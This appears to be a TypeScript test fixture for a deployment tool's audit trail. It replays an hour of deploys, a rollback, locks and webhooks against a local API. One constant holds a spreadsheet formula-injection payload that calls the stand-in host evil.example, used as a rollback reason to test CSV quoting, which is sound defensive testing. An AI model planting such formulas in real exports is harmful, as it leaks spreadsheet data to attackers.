import { hash, randomUUID } from "node:crypto";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PutObjectCommand } from "@aws-sdk/client-s3";
import type { z } from "zod";
import type { AuditPage } from "../../client/contract.ts";
import { awsClients } from "../../engine/aws/clients.ts";
import { type Engine, engine as makeEngine, systemClock } from "../../engine/wiring/engine.ts";
import { serveApi } from "../../local/api-server.ts";
import { clientOptions } from "../../local/client-options.ts";
import { startEndpoint } from "../../local/endpoint/endpoint.ts";
import { BUCKETS, localNames, provisionEngine } from "../../local/provision/engine-resources.ts";
import { createApi } from "../../services/api/app.ts";
import { apiPorts } from "../../services/api/wiring.ts";
import { artifact, check, release } from "./samples.ts";
import { siteConfigOf } from "./site-config.ts";

export type Row = z.infer<typeof AuditPage>["rows"][number];

const TOKEN = "a-token-of-the-audited";
const MINUTE = 60_000;
/** What a spreadsheet would run, and what a CSV must quote. */
export const EVIL = `=HYPERLINK("https://evil.example/?"&A1,"why")`;
export const LINES = 'it is "broken",\nsays ada';

/**
 * An engine's API on a loopback port, with a past of the last hour, one minute a step, that people gave by the API:
 * two releases went live in web/production and the first was rolled back to, a lock came and went in web/staging, docs
 * was deployed to and cancelled, an endpoint was added and removed. No consumer runs.
 */
export const startAuditedPast = async () => {
  const folder = await mkdtemp(join(tmpdir(), "shiplog-audited-"));
  const endpoint = await startEndpoint({ dataDir: folder });
  const clients = awsClients(clientOptions(endpoint));
  await provisionEngine(clients);
  const config = {
    ...localNames,
    sites: [siteConfigOf("web", "production"), siteConfigOf("web", "staging"), siteConfigOf("docs", "production")],
    tokens: { ci: hash("sha256", TOKEN, "hex") },
    loopbackWebhooks: true,
  };
  const began = Date.now() - 60 * MINUTE;
  let behind: number | null = 0;
  /** Every look at it takes a little, so that one thing is after another. */
  const now = (): number => {
    if (behind === null) return Date.now();
    behind += 1;
    return began + behind;
  };
  const clock = { ...systemClock, now };
  const engine = makeEngine(config, clients, clock, () => {});
  const api = await serveApi(createApi(apiPorts(engine)), { port: 0 });

  const ask = async (method: "GET" | "POST", path: string, body?: object, actor = "ada") => {
    const answer = await fetch(`${api.url}/v1/${path}`, {
      method,
      headers: { authorization: `Bearer ${TOKEN}`, "x-shiplog-actor": actor, "x-shiplog-client": "cli", "idempotency-key": randomUUID() },
      ...(body !== undefined && { body: JSON.stringify(body) }),
    });
    // biome-ignore lint/suspicious/noExplicitAny: an answer is looked at from outside, as a client sees its JSON
    return { status: answer.status, body: (await answer.json()) as any };
  };
  const sure = async (...words: Parameters<typeof ask>) => {
    const { status, body } = await ask(...words);
    if (status >= 300) throw new Error(`${words[1]}: ${status} ${JSON.stringify(body)}`);
    return body;
  };
  /** The next minute; what happens from here on happens in it. */
  const minute = (): string => {
    behind = (behind ?? 0) + MINUTE;
    return new Date(clock.now()).toISOString();
  };

  const zip = Buffer.from("a zip, more or less");
  const sha256 = hash("sha256", zip, "hex");
  const deploy = async (site: string, actor: string, reason: string): Promise<string> => {
    const key = `sources/${site}/${sha256}.zip`;
    await clients.s3.send(
      new PutObjectCommand({ Bucket: BUCKETS.sources, Key: key, Body: zip, ChecksumSHA256: hash("sha256", zip, "base64") }),
    );
    const committedAt = new Date(began - 120 * MINUTE).toISOString();
    const commit = { sha: "0123abc4567", message: "Fix the header", author: "Ada", branch: "main", committedAt };
    const request = { site, environment: "production", source: { key, sha256, bytes: zip.length }, commit, reason };
    return (await sure("POST", "deployments", request, actor)).deployment.id;
  };
  const because = (what: string) => ({ cause: `${what}/${randomUUID()}`, correlation: what, actor: `shiplog ${what}` });
  type OfDeployment = Parameters<Engine["aggregates"]["deployment"]["execute"]>[1];
  type OfEnvironment = Parameters<Engine["aggregates"]["environment"]["execute"]>[2];
  const advance = async (id: string, what: string, ...commands: OfDeployment[]) => {
    for (const command of commands) await engine.aggregates.deployment.execute(id, command, because(what));
  };
  const flip = async (...commands: OfEnvironment[]) => {
    for (const command of commands) await engine.aggregates.environment.execute("web", "production", command, because("flip-alias"));
  };
  const moved = (n: number, sequence: number, deploymentId: string, from: string): OfEnvironment => ({
    type: "RecordAliasFlipped",
    sequence,
    deploymentId,
    function: "web-production-server",
    from,
    to: String(n),
    revisionId: `r${sequence}`,
  });
  const live = async (id: string, n: number): Promise<void> => {
    const of = { ...release(n), id };
    await advance(
      id,
      "watch-build",
      { type: "RecordBuildStarted", buildId: `shiplog:${n}`, logs: "/aws/codebuild/shiplog:one" },
      { type: "RecordBuildSucceeded", buildId: `shiplog:${n}`, artifact: artifact(n) },
    );
    await advance(
      id,
      "publish-release",
      { type: "StartRelease", releaseId: id },
      { type: "RecordVersions", functions: of.functions },
      { type: "RecordChecksPassed", release: of, checks: [check(n)] },
    );
    const at = new Date(clock.now()).toISOString();
    await flip(
      { type: "RequestFlip", deploymentId: id, sequence: n, release: of, actor: "ada (token ci)", at },
      moved(n, n, id, String(n - 1)),
      { type: "RecordWentLive", sequence: n },
    );
    await advance(id, "advance", { type: "StartFlip", sequence: n }, { type: "SucceedDeployment", sequence: n });
  };

  const at = { beginning: minute(), firstLive: "", secondLive: "", rolledBack: "", end: "" };
  const first = await deploy("web", "ada", "the first release");
  await live(first, 1);
  at.firstLive = minute();
  const second = await deploy("web", "bob", LINES);
  await live(second, 2);
  at.secondLive = minute();
  await sure("POST", "environments/web/production/rollback", { reason: EVIL }, "carol");
  await flip(moved(1, 3, first, "2"), { type: "RecordWentLive", sequence: 3 });
  at.rolledBack = minute();
  await sure("POST", "environments/web/staging/lock", { reason: "moving the database" }, "dora");
  minute();
  await sure("POST", "environments/web/staging/unlock", { reason: "moved" }, "dora");
  minute();
  const docs = await deploy("docs", "eve", "a typo");
  await sure("POST", `deployments/${docs}/cancel`, { reason: "wrong branch" }, "eve");
  const { webhook } = await sure("POST", "webhooks", { kind: "slack", url: "http://127.0.0.1:9/a-secret-path" }, "fay");
  await sure("POST", `webhooks/${webhook.id}/remove`, { reason: "nobody reads it" }, "fay");
  at.end = minute();
  behind = null;

  return {
    ids: { first, second, docs, webhook: webhook.id as string },
    at,
    began,
    engine,
    ask,
    /** the whole trail, page by page */
    trail: async (query = "", limit = 500): Promise<Row[]> => {
      const rows: Row[] = [];
      for (let cursor = ""; ; ) {
        const page = await sure("GET", `audit?limit=${limit}${query && `&${query}`}${cursor && `&cursor=${encodeURIComponent(cursor)}`}`);
        rows.push(...page.rows);
        if (page.next === null) return rows;
        cursor = page.next;
      }
    },
    env: { SHIPLOG_URL: api.url, SHIPLOG_TOKEN: TOKEN },
    /** what a local engine leaves in its data folder for the command line */
    connection: { url: api.url, token: TOKEN, endpoint: endpoint.url, credentials: endpoint.credentials },
    close: async () => {
      await api.close();
      clients.destroy();
      await endpoint.close();
      await rm(folder, { recursive: true, force: true });
    },
  };
};
export type AuditedPast = Awaited<ReturnType<typeof startAuditedPast>>;
